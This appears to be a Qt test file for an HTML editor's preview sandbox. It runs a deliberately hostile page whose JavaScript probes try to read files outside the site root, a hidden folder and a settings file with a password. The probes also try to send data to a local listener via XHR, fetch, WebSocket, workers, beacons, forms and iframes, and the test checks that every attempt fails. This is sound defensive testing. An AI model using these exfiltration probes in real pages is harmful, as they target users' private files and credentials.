// SPDX-License-Identifier: GPL-3.0-or-later
// A hostile page in the preview, with page scripts on: it tries to read the
// user's files and to send what it finds to a server on this machine.

#include "editor/documentwindow.h"
#include "editor/htmleditor.h"
#include "kernel/appstate.h"
#include "preview/previewbrowser.h"
#include "preview/previewmodule.h"
#include "preview/previewpane.h"
#include "support/files.h"
#include "support/scripteddialogs.h"
#include "support/webpage.h"

#include <QApplication>
#include <QDir>
#include <QFile>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTimer>
#include <QtTest>
#include <QWebEnginePage>
#include <QWebEngineScript>
#include <QWebEngineView>

#include <sys/stat.h>

namespace {

// Everything that reaches it is counted; a page must reach it never.
class Listener : public QTcpServer
{
public:
    int connections = 0;
    QByteArray received;

protected:
    void incomingConnection(qintptr handle) override
    {
        ++connections;
        auto *socket = new QTcpSocket(this);
        socket->setSocketDescriptor(handle);
        connect(socket, &QTcpSocket::readyRead, this,
                [this, socket] { received += socket->readAll(); });
    }
};

using testfiles::writeFile;

// The page's helpers: every probe settles to what it read or "refused".
const char Helpers[] = R"js(
function xhr(url) {
    return new Promise(function (done) {
        var r = new XMLHttpRequest();
        r.onload = function () { done(r.status === 200 ? 'read:' + r.responseText : 'refused'); };
        r.onerror = function () { done('refused'); };
        try { r.open('GET', url); r.send(); } catch (e) { done('refused'); }
    });
}
function fetched(url) {
    return fetch(url).then(function (r) { return r.ok ? r.text().then(function (t) { return 'read:' + t; }) : 'refused'; },
                           function () { return 'refused'; });
}
function socket(url) {
    return new Promise(function (done) {
        try {
            var s = new WebSocket(url);
            s.onopen = function () { s.send('secret'); done('open'); };
            s.onerror = function () { done('refused'); };
        } catch (e) { done('refused'); }
    });
}
function worker(url) {
    return new Promise(function (done) {
        try {
            var w = new Worker(url);
            w.onmessage = function (e) { done(e.data); };
            w.onerror = function () { done('refused'); };
        } catch (e) { done('refused'); }
    });
}
function workerSource(target) {
    return "fetch('" + target + "').then(function (r) { return r.text(); })" +
        ".then(function (t) { postMessage('ran, read:' + t); }," +
        " function () { postMessage('ran, refused'); });";
}
function framed(probe) {
    return new Promise(function (done) {
        window.addEventListener('message', function (e) { done(e.data); });
        var f = document.createElement('iframe');
        f.src = '/frame.htm#' + encodeURIComponent(probe);
        document.body.appendChild(f);
    });
}
function later(value) {
    return new Promise(function (done) { setTimeout(function () { done(value); }, 500); });
}
)js";

// A page of the folder, served without the policy the document carries:
// only the request filter stands between it and the server. It runs the
// probe its address names and tells the document what came of it.
const char FramePage[] = R"html(<html><body><script src="helpers.js"></script><script>
eval(decodeURIComponent(location.hash.substring(1))).then(function (v) {
    parent.postMessage(v, '*');
});
</script></body></html>)html";

QString readOut(QWebEnginePage *page)
{
    return runScript(*page,
                     QStringLiteral("(function () { var o = document.getElementById('out');"
                                    " return o ? o.textContent : ''; })()"),
                     QWebEngineScript::ApplicationWorld)
        .toString();
}

} // namespace

class TestPreviewSecurity : public QObject
{
    Q_OBJECT

    QTemporaryDir m_dir;
    Listener m_server;
    QString m_root;
    QString m_secret;
    AppState m_state;
    ScriptedDialogs m_dialogs;
    std::unique_ptr<DocumentWindow> m_doc;
    // A dialog the page opens is closed and counted, so the test fails
    // instead of waiting for a person.
    QTimer m_dialogCloser;
    int m_pageDialogs = 0;

    QString fill(QString text) const
    {
        return text.replace(QLatin1String("PORT"), QString::number(m_server.serverPort()))
            .replace(QLatin1String("SECRET"), m_secret);
    }

private slots:
    void initTestCase()
    {
        // The settings folder lies inside the page's root here, and is
        // still not served.
        qputenv("XDG_CONFIG_HOME", m_dir.filePath("site/conf").toUtf8());
        QString error;
        PreviewEngine *engine = previewmodule::engine(&error);
        QVERIFY2(engine, qPrintable(error));
        engine->allowScriptsWithoutSandbox();
        QVERIFY(m_server.listen(QHostAddress::LocalHost));
        m_root = m_dir.filePath("site");
        m_secret = m_dir.filePath("secret.txt");
        for (const char *folder : {"site/sub", "site/.hidden", "site/conf/lorimel"})
            QVERIFY(QDir().mkpath(m_dir.filePath(folder)));
        QVERIFY(writeFile(m_secret, "above the root"));
        QVERIFY(writeFile(m_dir.filePath("site/public.txt"), "public"));
        QVERIFY(writeFile(m_dir.filePath("site/.hidden/secret.txt"), "hidden"));
        QVERIFY(writeFile(m_dir.filePath("site/conf/lorimel/Lorimel3.ini"),
                          "[Direct]\nFTPPassword=hunter2\n"));
        QVERIFY(writeFile(m_dir.filePath("site/frame.htm"), FramePage));
        QVERIFY(writeFile(m_dir.filePath("site/helpers.js"), fill(Helpers).toUtf8()));
        QVERIFY(QFile::link(m_secret, m_dir.filePath("site/outside.txt")));
        QVERIFY(::mkfifo(QFile::encodeName(m_dir.filePath("site/fifo")).constData(), 0600) == 0);

        connect(&m_dialogCloser, &QTimer::timeout, this, [this] {
            if (QWidget *modal = QApplication::activeModalWidget()) {
                ++m_pageDialogs;
                modal->close();
            }
        });
        m_dialogCloser.start(100);

        m_state.siteFilePath = m_root;
        m_doc = std::make_unique<DocumentWindow>(DocumentWindow::Kind::Preview, m_state, m_dialogs);
        m_doc->resize(800, 600);
        m_doc->show();
        m_doc->setCaption(m_dir.filePath("site/sub/page.htm"));
    }

    // Each probe runs in a freshly loaded page; what it reports and what
    // reached the server are checked. LOOP is the server's address.
    void hostilePage_data()
    {
        QTest::addColumn<QString>("probe");
        QTest::addColumn<QString>("outcome");
        const char *const loop = "'http://127.0.0.1:PORT/'";
        const char *const rows[][3] = {
            {"a file of the folder", "xhr('../public.txt')", "read:public"},
            {"file URL above the root", "xhr('file://SECRET')", "refused"},
            {"file URL, fetch", "fetched('file://SECRET')", "refused"},
            {"link leading out of the root", "xhr('../outside.txt')", "refused"},
            {"hidden folder", "xhr('../.hidden/secret.txt')", "refused"},
            {"hidden folder, escaped", "xhr('../%2Ehidden/secret.txt')", "refused"},
            {"settings folder", "xhr('../conf/lorimel/Lorimel3.ini')", "refused"},
            {"a FIFO does not hang", "xhr('../fifo')", "refused"},
            {"loopback server", "xhr(LOOP)", "refused"},
            {"web socket", "socket('ws://127.0.0.1:PORT/')", "refused"},
            {"worker from data:",
             "worker('data:text/javascript,' + encodeURIComponent(workerSource(LOOP)))", "refused"},
            {"worker from blob:", "worker(URL.createObjectURL(new Blob([workerSource(LOOP)])))",
             "refused"},
            {"picture made by the script",
             "new Promise(function (done) { var i = new Image(); i.onerror = function () { "
             "done('refused'); }; i.onload = function () { done('loaded'); }; i.src = LOOP; })",
             "refused"},
            {"beacon", "(navigator.sendBeacon(LOOP, 'x'), later('sent'))", "sent"},
            {"preconnect",
             "(document.head.appendChild(Object.assign(document.createElement('link'), "
             "{rel: 'preconnect', href: LOOP})), later('added'))",
             "added"},
            {"navigation away", "(location.href = LOOP, later('stayed'))", "stayed"},
            {"form sent away",
             "(Object.assign(document.body.appendChild(document.createElement('form')), "
             "{action: LOOP, method: 'post'}).submit(), later('stayed'))",
             "stayed"},
            {"dialogs one after another",
             "(function () { for (var i = 0; i < 3; ++i) { alert(i); confirm(i); prompt(i); } "
             "return later('no dialog'); })()",
             "no dialog"},
            {"frame without the policy: loopback", "framed(\"xhr(LOOP)\")", "refused"},
            {"frame without the policy: web socket", "framed(\"socket('ws://127.0.0.1:PORT/')\")",
             "refused"},
            // The worker runs; its request does not.
            {"frame without the policy: worker from data:",
             "framed(\"worker('data:text/javascript,' + "
             "encodeURIComponent(workerSource(LOOP)))\")",
             "ran, refused"},
            {"frame without the policy: file URL", "framed(\"xhr('file://SECRET')\")", "refused"},
        };
        for (const auto &r : rows) {
            QTest::newRow(r[0]) << QString::fromUtf8(r[1]).replace(QLatin1String("LOOP"),
                                                                   QLatin1String(loop))
                                << QString::fromUtf8(r[2]);
        }
    }
    void hostilePage()
    {
        QFETCH(QString, probe);
        QFETCH(QString, outcome);
        DocumentWindow &doc = *m_doc;
        doc.editor()->setDocumentText(
            fill(QStringLiteral("<html><body><pre id=out></pre><script src=\"../helpers.js\">"
                                "</script><script>(%1).then(function (v) {"
                                " document.getElementById('out').textContent = 'done ' + v; });"
                                "</script></body></html>")
                     .arg(probe)));
        QWebEnginePage *page = engineView(doc.previewPane())->page();
        QSignalSpy loaded(page, &QWebEnginePage::loadFinished);
        doc.refreshPreview();
        QVERIFY(loaded.wait(60000));
        QString out;
        QVERIFY(QTest::qWaitFor(
            [&] {
                out = readOut(page);
                return out.startsWith(QLatin1String("done "));
            },
            60000));
        QCOMPARE(out.mid(5), outcome);
        // Whatever the page did in the background has had its moment.
        QTest::qWait(300);
        QCOMPARE(m_server.connections, 0);
        QCOMPARE(m_server.received, QByteArray());
        QCOMPARE(m_pageDialogs, 0);
    }

    void cleanupTestCase()
    {
        m_doc.reset();
        QTest::qWait(500);
        QCOMPARE(m_server.connections, 0);
    }
};

QTEST_MAIN(TestPreviewSecurity)
#include "test_previewsecurity.moc"
